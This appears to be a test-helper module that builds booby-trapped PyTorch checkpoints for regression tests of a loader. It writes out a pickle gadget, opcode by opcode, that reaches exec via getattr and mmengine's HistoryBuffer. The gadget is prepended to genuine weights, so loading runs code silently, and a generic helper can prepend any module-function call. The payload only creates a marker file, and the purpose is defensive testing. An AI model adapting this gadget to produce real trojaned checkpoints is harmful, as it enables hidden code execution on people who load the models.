"""Hostile checkpoints for the loader tests: a genuine checkpoint with a code-running gadget prepended.

The gadget is the one from issue 10, written opcode by opcode so no real object is pickled:

1. `getattr(getattr, "__self__")` is the `builtins` module, `getattr(builtins, "exec")` is `exec`;
2. a `HistoryBuffer` built with NEWOBJ gets `{"array": exec}` through BUILD (its `__setstate__`
   updates `__dict__`);
3. `getattr(getattr(HistoryBuffer, "__init__"), "__globals__")` is history_buffer.py's module dict;
   SETITEM replaces its `np` by that buffer, so `np.array(...)` is `exec(...)`;
4. REDUCE `HistoryBuffer(payload, blanks)` runs `exec(payload)`: the payload puts numpy back and
   creates the marker file (the harmless stand-in for an attacker's code).

The gadget leaves its objects on the unpickler's stack and the genuine pickle follows, so STOP returns
the real checkpoint: a vulnerable loader runs the payload *and* loads the weights as if nothing happened.
"""

from __future__ import annotations

import random
import struct
import zipfile
from pathlib import Path

PROTO_2 = b"\x80\x02"


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _text(value: str) -> bytes:
    data = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def _put(slot: int) -> bytes:
    return b"r" + struct.pack("<I", slot)


def _get(slot: int) -> bytes:
    return b"j" + struct.pack("<I", slot)


TUPLE2, EMPTY_TUPLE, REDUCE, NEWOBJ, BUILD, EMPTY_DICT, SETITEM = b"\x86", b")", b"R", b"\x81", b"b", b"}", b"s"


def gadget_opcodes(marker: Path, seed: int = 0) -> bytes:
    """Pickle opcodes (no PROTO, no STOP) that create `marker` when unpickled with the old allow-list.

    `seed` picks the memo slots, far above those a genuine checkpoint uses, so both pickles can share
    one memo without clobbering each other.
    """
    base = random.Random(seed).randrange(1_000_000, 2_000_000)
    getattr_, builtins_, exec_, history_, buffer_ = (base + i for i in range(5))
    payload = f"globals()['np'] = __import__('numpy'); open({str(marker)!r}, 'w').close()"
    ops = [
        _global("builtins", "getattr"), _put(getattr_),
        _get(getattr_), _text("__self__"), TUPLE2, REDUCE, _put(builtins_),               # builtins
        _get(getattr_), _get(builtins_), _text("exec"), TUPLE2, REDUCE, _put(exec_),      # exec
        _global("mmengine.logging.history_buffer", "HistoryBuffer"), _put(history_),
        EMPTY_TUPLE, NEWOBJ, EMPTY_DICT, _text("array"), _get(exec_), SETITEM, BUILD, _put(buffer_),
        _get(getattr_), _get(getattr_), _get(history_), _text("__init__"), TUPLE2, REDUCE,
        _text("__globals__"), TUPLE2, REDUCE,                                             # module dict
        _text("np"), _get(buffer_), SETITEM,                                              # np := buffer
        _get(history_), _text(payload), _text(" " * len(payload)), TUPLE2, REDUCE,        # exec(payload)
    ]
    return b"".join(ops)


def replace_data_pkl(source: Path, target: Path, new_pickle) -> None:
    """Copy torch's zip checkpoint `source` to `target` with `<root>/data.pkl` replaced by
    `new_pickle(old_bytes)`; every other record (tensor data, version, byteorder) is kept."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data.pkl"):
                data = new_pickle(data)
            dst.writestr(info.filename, data)


def hostile_checkpoint(genuine: Path, target: Path, marker: Path, seed: int = 0) -> Path:
    """`genuine` with the gadget prepended to its data.pkl; loading it unsafely creates `marker`."""
    def prepend(original: bytes) -> bytes:
        body = original[2:] if original.startswith(PROTO_2) else original
        return PROTO_2 + gadget_opcodes(marker, seed) + body

    replace_data_pkl(genuine, target, prepend)
    return target


def call_prepended(genuine: Path, target: Path, module: str, name: str, argument: str) -> Path:
    """`genuine` with `module.name(argument)` prepended: harmless only while that global is refused."""
    def prepend(original: bytes) -> bytes:
        body = original[2:] if original.startswith(PROTO_2) else original
        return PROTO_2 + _global(module, name) + _text(argument) + b"\x85" + REDUCE + body  # \x85: TUPLE1

    replace_data_pkl(genuine, target, prepend)
    return target
